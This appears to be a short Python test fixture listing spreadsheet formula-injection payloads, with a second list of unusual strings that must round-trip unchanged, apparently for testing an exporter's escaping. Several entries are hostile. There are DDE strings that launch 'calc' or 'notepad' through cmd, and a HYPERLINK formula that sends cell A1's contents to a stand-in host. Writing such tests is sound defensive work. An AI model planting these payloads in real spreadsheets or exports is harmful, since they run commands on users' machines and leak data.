"""Texts that a spreadsheet would compute if it were let, in sixty kinds."""

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a.example/?x="&A1,"look")',
    "SUM(A1:A9)*2",
    "2+5+cmd|'/c notepad'!A1",
)
TWICE = (
    "'=1+1",
    "''=1+1",
    "'+12125550101",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)
PAYLOADS = (*(start + body for start in STARTS for body in BODIES), *TWICE)
# Texts that must come back as they were, too, though nothing computes them.
ODD = (
    *("", " ", "'", "''", "O'Brien", "'tis", '"quoted"', "a,b;c", "two\nlines"),
    *("two\r\nlines", "_x0041_", "_x000D_", "007", "1e5", "2026-11-16", "true"),
    *("Zoë 李明 😀", "\u202eevil", "trailing ", "a\tb", "https://a.example", "#N/A"),
)
